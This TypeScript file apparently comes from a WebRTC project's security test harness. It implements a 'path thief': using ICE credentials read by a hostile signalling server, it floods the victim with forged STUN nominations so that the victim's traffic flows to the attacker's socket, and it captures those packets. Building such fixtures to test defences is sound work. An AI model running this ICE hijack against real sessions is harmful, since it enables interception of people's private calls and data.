import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';

import { afterwards } from '../../support/afterwards.js';
import { sdpOf, takeApart } from './envelopes.js';
import type { HostileRendezvous } from './hostile-rendezvous.js';
import { ATTRIBUTE, readStun, uint32, writeAddress, writeStun, type Address } from './stun.js';

/** What a rendezvous reads of one end of a link: every introduction passes through it. */
export interface End {
  readonly ufrag: string;
  /** Empty where the introduction did not say it. */
  readonly password: string;
  readonly addresses: readonly Address[];
}

/** Somebody with the ICE passwords of both ends (RFC 8445 section 7), who says to one end that he is the path to the other. */
export interface PathThief {
  /** How often he has named himself. */
  readonly asked: number;
  /** Packets that are no STUN: what the victim sends the other end, led astray. */
  readonly stolen: readonly Uint8Array[];
  close(): void;
}

const REQUEST = 0x001;
const RESPONSE = 0x101;
const CHECK_INTERVAL_MS = 50;

/** Leads what `victim` sends to `other` to this process instead, as far as ICE lets it. */
export async function startPathThief(victim: End, other: End): Promise<PathThief> {
  const stolen: Uint8Array[] = [];
  let asked = 0;
  const socket = createSocket('udp4');
  socket.unref();
  socket.bind(0);
  await once(socket, 'listening');
  socket.on('message', (packet, from) => {
    if (packet[0]! > 3) {
      stolen.push(new Uint8Array(packet));
      return;
    }
    const { type, id } = readStun(packet);
    if (type !== REQUEST) return;
    const mapped = [[ATTRIBUTE.mappedAddress, writeAddress(from)]] as const;
    socket.send(writeStun(RESPONSE, id, mapped, other.password), from.port, from.address);
  });
  const nominate = () => {
    asked += 1;
    for (const { address, port } of victim.addresses) {
      const request = writeStun(
        REQUEST,
        randomBytes(12),
        [
          [ATTRIBUTE.username, Buffer.from(`${victim.ufrag}:${other.ufrag}`)],
          [ATTRIBUTE.controlling, Buffer.alloc(8, 0xff)],
          [ATTRIBUTE.priority, uint32(0x7eff_ffff)],
          [ATTRIBUTE.useCandidate, Buffer.alloc(0)],
          [ATTRIBUTE.nomination, uint32(1_000)],
        ],
        victim.password,
      );
      socket.send(request, port, address);
    }
  };
  const timer = setInterval(nominate, CHECK_INTERVAL_MS).unref();
  return afterwards({
    get asked() {
      return asked;
    },
    stolen,
    close() {
      clearInterval(timer);
      socket.close();
    },
  });
}

/** What the rendezvous has read of one end. */
export function endOf(rendezvous: HostileRendezvous, id: string, kind: 'offer' | 'answer'): End {
  const described = rendezvous.tape.find((one) => one.kind === kind && one.from === id);
  if (!described) throw new Error(`no ${kind} of ${id} on the tape`);
  const sdp = sdpOf(takeApart(described.envelope));
  const told = rendezvous.tape
    .filter((one) => one.kind === 'candidates' && one.from === id)
    .map(({ envelope }) => JSON.stringify(takeApart(envelope).content.body))
    .join();
  const found = told.matchAll(/ udp \d+ (\d+\.\d+\.\d+\.\d+) (\d+) typ host/gi);
  return {
    ufrag: /^a=ice-ufrag:(\S+)/m.exec(sdp)![1]!,
    password: /^a=ice-pwd:(\S+)/m.exec(sdp)?.[1] ?? '',
    addresses: [...found].map(([, address, port]) => ({ address: address!, port: Number(port) })),
  };
}
